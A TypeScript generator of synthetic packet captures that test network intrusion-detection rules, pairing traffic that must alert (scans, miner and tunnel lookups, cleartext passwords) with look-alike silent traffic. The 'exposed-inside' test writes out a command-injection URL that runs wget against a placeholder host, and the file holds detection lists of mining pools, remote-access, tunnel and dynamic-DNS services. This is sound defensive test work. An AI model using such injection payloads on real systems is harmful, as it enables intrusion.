/**
 * The captures of rules/tests: for every rule that comes with sekisho traffic that it must alert on, and beside it traffic that
 * looks alike and must stay silent. The same bytes every time; `expect.yaml` beside each says what has to come.
 */
import { mkdirSync, rmSync, writeFileSync } from "node:fs";
import { join as joinPath } from "node:path";
import { ascii, join, u8, u16 } from "./bytes.js";
import { selfSignedCertificate } from "./certificate.js";
import { DNS_PORT, dnsAnswer, dnsQuery, TYPE_A } from "./dns.js";
import { talkHttp } from "./http.js";
import { commandSite, computers, downloadSite, gateway, nas, webSites } from "./places.js";
import { BROWSER_AGENT, browser, businessClient, IMPLANT_AGENT, implant } from "./programs.js";
import { Random } from "./random.js";
import type { Station } from "./station.js";
import { TcpConversation } from "./tcp-conversation.js";
import { talkTls } from "./tls-session.js";
import { Wire } from "./wire.js";

/** Tuesday, 17 November 2026, nine o'clock in Tokyo. */
const START_US = Date.UTC(2026, 10, 17, 0, 0, 0) * 1000;
const SECOND_US = 1_000_000;
const IP_PROTOCOL_ICMP = 1;
const VALIDITY = { notBefore: "261101000000Z", notAfter: "271101000000Z" };

interface RuleTestStory {
  readonly name: string;
  readonly about: string;
  /** Sid → how often. */
  readonly alerts: Readonly<Record<number, number>>;
  readonly tell: (stage: Stage) => void;
}

const [pc, otherPc] = computers as readonly [Station, Station, ...Station[]];
const outside = webSites[0]!.station;

/** Who does what, one thing a second. */
class Stage {
  readonly wire = new Wire();
  readonly random = new Random(2026);
  #nowUs = START_US;

  pause(seconds: number): void {
    this.#nowUs += seconds * SECOND_US;
  }

  lookUp(name: string, client = pc): void {
    const port = this.wire.nextPort(client);
    const id = this.wire.nextIpId(client) ^ 0x5a5a;
    this.wire.udp(this.#nowUs, client, port, gateway, DNS_PORT, dnsQuery(id, name, TYPE_A));
    const answer = dnsAnswer(id, name, TYPE_A, [u8(203, 0, 113, 77)]);
    this.wire.udp(this.#nowUs + 20_000, gateway, DNS_PORT, client, port, answer);
    this.pause(1);
  }

  /** A connection that is refused: one SYN. */
  knock(client: Station, server: Station, port: number, seconds = 1): void {
    this.#connection(client, server, port).meetRefusal();
    this.pause(seconds);
  }

  talk(client: Station, server: Station, port: number, request: Uint8Array, answer = ascii("\r\n")): void {
    this.#connection(client, server, port).open().clientSends(request).serverSends(answer).close();
    this.pause(1);
  }

  get(client: Station, server: Station, host: string, uri: string, userAgent: string, method = "GET"): void {
    const body = ascii("ok\n");
    talkHttp(this.#connection(client, server, 80), {
      ...{ method, host, uri, userAgent, body },
      status: "200 OK",
      contentType: "text/plain",
    });
    this.pause(1);
  }

  tls(client: Station, server: Station, serverName: string, program = implant): void {
    talkTls(this.#connection(client, server, 443), {
      client: program,
      serverName,
      certificate: selfSignedCertificate({ commonName: serverName, ...VALIDITY }, this.random),
      exchanges: [{ requestBytes: 100, answerBytes: 200 }],
    });
    this.pause(2);
  }

  ping(client: Station, server: Station, bytes: number): void {
    const message = join(u8(8, 0), u16(0), u16(1, 1), new Uint8Array(bytes).fill(0x61));
    const sum = checksum(message);
    message[2] = sum >>> 8;
    message[3] = sum & 0xff;
    this.wire.packet(this.#nowUs, client, server, { protocol: IP_PROTOCOL_ICMP, bytes: message });
    this.pause(1);
  }

  #connection(client: Station, server: Station, port: number): TcpConversation {
    return new TcpConversation(this.wire, this.random, client, server, port, this.#nowUs);
  }
}

/** Sum of 16-bit words, carries added, complemented (RFC 1071). */
function checksum(bytes: Uint8Array): number {
  let sum = 0;
  for (let i = 0; i < bytes.length; i += 2) sum += (bytes[i]! << 8) | (bytes[i + 1] ?? 0);
  while (sum > 0xffff) sum = (sum & 0xffff) + (sum >>> 16);
  return ~sum & 0xffff;
}

/** Further hosts on the Internet, in the range for documentation. */
function host(index: number): Station {
  return { ...outside, name: `host${index}`, address: `198.51.100.${100 + index}` };
}

const POOLS = [
  "nanopool.org",
  "2miners.com",
  "supportxmr.com",
  "moneroocean.stream",
  "hashvault.pro",
  "c3pool.org",
];
const REMOTE = [
  "anydesk.com",
  "teamviewer.com",
  "ultraviewer.net",
  "supremocontrol.com",
  "screenconnect.com",
  "rustdesk.com",
];
const TUNNELS = ["trycloudflare.com", "ngrok.io", "ngrok-free.app", "loca.lt", "serveo.net"];
const DYNAMIC = ["duckdns.org", "ddns.net", "hopto.org", "zapto.org", "dynv6.net", "chickenkiller.com"];

/** First sid and so many behind it, each once. */
function each(first: number, count: number): Record<number, number> {
  return Object.fromEntries(Array.from({ length: count }, (_, index) => [first + index, 1]));
}

function lookUps(stage: Stage, domains: readonly string[]): void {
  for (const domain of domains) {
    // Twice, of which one is told; once from elsewhere would be told again, so it stays with one device.
    stage.lookUp(`a7f3.${domain}`);
    stage.lookUp(`B2.${domain.toUpperCase()}`);
  }
}

export const RULE_TESTS: readonly RuleTestStory[] = [
  {
    name: "command-and-control",
    about: "The names of the demonstration: looked up, talked to, fetched from, and by its user agent.",
    alerts: { 9000001: 2, 9000002: 1, 9000003: 1, 9000004: 1 },
    tell: (stage) => {
      stage.lookUp(commandSite.name);
      stage.lookUp(commandSite.name.toUpperCase());
      stage.tls(pc, commandSite.station, commandSite.name);
      stage.get(pc, downloadSite.station, downloadSite.name, "/get/x.BIN", IMPLANT_AGENT);
    },
  },
  {
    name: "silent-names",
    about: "Names that resemble those of rules: longer, shorter, on the left or on the right.",
    alerts: {},
    tell: (stage) => {
      for (const name of [`x.${commandSite.name}`, `${commandSite.name}.example.com`, "badexample.test"]) {
        stage.lookUp(name);
        stage.tls(pc, outside, name, browser);
      }
      for (const domain of [...POOLS, ...REMOTE, ...TUNNELS, ...DYNAMIC]) {
        stage.lookUp(domain);
        stage.lookUp(`my${domain}`);
        stage.lookUp(`a.${domain}.example.com`);
      }
      stage.get(pc, outside, "dl.badexample.test.example.com", "/get/x.bin", BROWSER_AGENT);
      stage.get(pc, downloadSite.station, downloadSite.name, "/get/x.bin.txt", BROWSER_AGENT);
      stage.get(pc, downloadSite.station, downloadSite.name, "/get/x.bin", BROWSER_AGENT, "POST");
      stage.get(pc, outside, "www.example.com", "/SyncAgent/", `X ${IMPLANT_AGENT}`);
    },
  },
  {
    name: "scan-inside",
    about: "One device knocks at twelve others, port by port; each rule tells it once.",
    alerts: each(9000011, 4),
    tell: (stage) => {
      for (const port of [445, 3389, 22, 23]) {
        for (const target of computers.slice(1)) stage.knock(pc, target, port);
        stage.knock(pc, nas, port === 23 ? 2323 : port);
        stage.pause(60);
      }
    },
  },
  {
    name: "silent-knocks",
    about: "Fewer knocks than ten in half a minute, and ten of ten different devices.",
    alerts: {},
    tell: (stage) => {
      for (const target of computers.slice(1, 10)) stage.knock(pc, target, 445);
      stage.pause(60);
      for (const target of computers.slice(1)) stage.knock(pc, target, 3389, 5);
      for (const client of computers) stage.knock(client, nas, 445, 0.1);
      for (let index = 0; index < 19; index++) stage.knock(pc, host(index), 23);
    },
  },
  {
    name: "scan-outside",
    about: "A worm at work: Telnet, file sharing and mail to many hosts on the Internet.",
    alerts: each(9000021, 3),
    tell: (stage) => {
      for (let index = 0; index < 22; index++) stage.knock(pc, host(index), index % 2 === 0 ? 23 : 2323);
      for (let index = 0; index < 22; index++) stage.knock(pc, host(index), 445);
      for (let index = 0; index < 62; index++) stage.knock(pc, host(index), 25, 0.5);
    },
  },
  {
    name: "large-pings",
    about: "Thirty large echo requests in a minute; small ones and slow ones stay silent.",
    alerts: { 9000024: 1 },
    tell: (stage) => {
      for (let index = 0; index < 31; index++) stage.ping(pc, outside, 1001);
      for (let index = 0; index < 40; index++) stage.ping(otherPc, outside, 56);
      stage.ping(otherPc, nas, 1200);
    },
  },
  {
    name: "services-outside",
    about:
      "File sharing, Telnet and remote desktop across the Internet, the second time within the hour not told.",
    alerts: each(9000031, 3),
    tell: (stage) => {
      for (const port of [445, 23, 3389]) {
        stage.talk(pc, outside, port, ascii("hello\r\n"));
        stage.talk(pc, host(1), port, ascii("hello\r\n"));
      }
    },
  },
  {
    name: "passwords-in-clear",
    about: "Passwords over HTTP, FTP, POP3 and IMAP to the Internet.",
    alerts: each(9000034, 4),
    tell: (stage) => {
      const basic = "GET / HTTP/1.1\r\nHost: www.example.com\r\nAuthorization: Basic dXNlcjpwYXNz\r\n\r\n";
      stage.talk(pc, outside, 80, ascii(basic), ascii("HTTP/1.1 204 No Content\r\n\r\n"));
      stage.talk(pc, outside, 21, ascii("PASS geheim\r\n"), ascii("230 in\r\n"));
      stage.talk(pc, outside, 110, ascii("PASS geheim\r\n"), ascii("+OK\r\n"));
      stage.talk(pc, outside, 143, ascii("a1 LOGIN user geheim\r\n"), ascii("a1 OK\r\n"));
    },
  },
  {
    name: "silent-logins",
    about: "Anonymous FTP, other methods of HTTP, and the same passwords inside the office.",
    alerts: {},
    tell: (stage) => {
      stage.talk(pc, outside, 21, ascii("PASS Anonymous\r\n"), ascii("230 in\r\n"));
      const bearer = "GET / HTTP/1.1\r\nHost: www.example.com\r\nAuthorization: Bearer abc\r\n\r\n";
      stage.talk(pc, outside, 80, ascii(bearer), ascii("HTTP/1.1 204 No Content\r\n\r\n"));
      stage.talk(pc, nas, 21, ascii("PASS geheim\r\n"), ascii("230 in\r\n"));
      stage.talk(pc, outside, 143, ascii("a1 CAPABILITY\r\n"), ascii("a1 OK\r\n"));
      stage.talk(pc, nas, 445, ascii("hello"));
      stage.talk(pc, outside, 443, ascii("hello"));
    },
  },
  {
    name: "exposed-inside",
    about:
      "The Internet reaches remote desktop, file sharing, Telnet, a database and a video recorder inside.",
    alerts: each(9000041, 5),
    tell: (stage) => {
      for (const port of [3389, 445, 2323, 5432]) stage.talk(outside, nas, port, ascii("hello\r\n"));
      stage.get(outside, nas, "192.168.10.10", "/shell?cd+/tmp;WGET+http://198.51.100.1/x", "x");
    },
  },
  {
    name: "silent-visitors",
    about: "The Internet knocks in vain, and asks a web server for other things.",
    alerts: {},
    tell: (stage) => {
      for (const port of [3389, 445, 23, 3306]) stage.knock(outside, nas, port);
      stage.get(outside, nas, "192.168.10.10", "/index?shell?wget", BROWSER_AGENT);
      stage.get(outside, nas, "192.168.10.10", "/shell?date", BROWSER_AGENT);
    },
  },
  {
    name: "suspicious-downloads",
    about: "Programs of the operating system that attackers fetch with.",
    alerts: each(9000051, 3),
    tell: (stage) => {
      const powerShell = "Mozilla/5.0 (Windows NT; Windows NT 10.0) WindowsPowerShell/5.1.19041.1";
      stage.get(pc, outside, "www.example.com", "/a.ps1", powerShell);
      stage.get(pc, outside, "www.example.com", "/a.txt", "CertUtil URL Agent");
      stage.get(pc, outside, "www.example.com", "/a.SH", "Wget/1.21");
      stage.get(pc, outside, "www.example.com", "/a.sh", "Wget/1.21");
      stage.get(pc, outside, "www.example.com", "/a.tgz", "curl/8.0");
    },
  },
  {
    name: "mining",
    about: "Look-ups of mining pools, and a miner's first words.",
    alerts: each(9000061, 7),
    tell: (stage) => {
      lookUps(stage, POOLS);
      stage.talk(pc, outside, 3333, ascii('{"id":1,"method":"mining.subscribe","params":[]}\n'));
    },
  },
  {
    name: "remote-control",
    about: "Programs for remote control, by the names they look up.",
    alerts: each(9000071, 6),
    tell: (stage) => lookUps(stage, REMOTE),
  },
  {
    name: "tunnels",
    about: "Sessions with tunnel services, under TLS 1.2 and 1.3, and a name of Tor.",
    alerts: each(9000081, 6),
    tell: (stage) => {
      for (const [index, domain] of TUNNELS.entries()) {
        stage.tls(pc, outside, `a1.${domain}`, index % 2 === 0 ? browser : businessClient);
      }
      stage.lookUp("abcdefabcdef.onion");
    },
  },
  {
    name: "dynamic-dns",
    about: "Names of dynamic DNS services.",
    alerts: each(9000091, 6),
    tell: (stage) => lookUps(stage, DYNAMIC),
  },
];

/** One capture as bytes. */
export function ruleTestCapture({ tell }: RuleTestStory): Uint8Array {
  const stage = new Stage();
  tell(stage);
  return stage.wire.capture().file;
}

/** The text of `expect.yaml`. */
export function ruleTestExpectation({ about, alerts }: RuleTestStory): string {
  const lines = Object.entries(alerts).map(([sid, count]) => `  ${sid}: ${count}`);
  return [
    `about: ${JSON.stringify(about)}`,
    ...(lines.length === 0 ? ["alerts: {}"] : ["alerts:", ...lines]),
    "",
  ].join("\n");
}

/** Write all tests below `folder`, each in a folder of its own that is made anew. */
export function writeRuleTests(folder: string): void {
  for (const test of RULE_TESTS) {
    const path = joinPath(folder, test.name);
    rmSync(path, { recursive: true, force: true });
    mkdirSync(path, { recursive: true });
    writeFileSync(joinPath(path, "input.pcap"), ruleTestCapture(test));
    writeFileSync(joinPath(path, "expect.yaml"), ruleTestExpectation(test));
  }
}
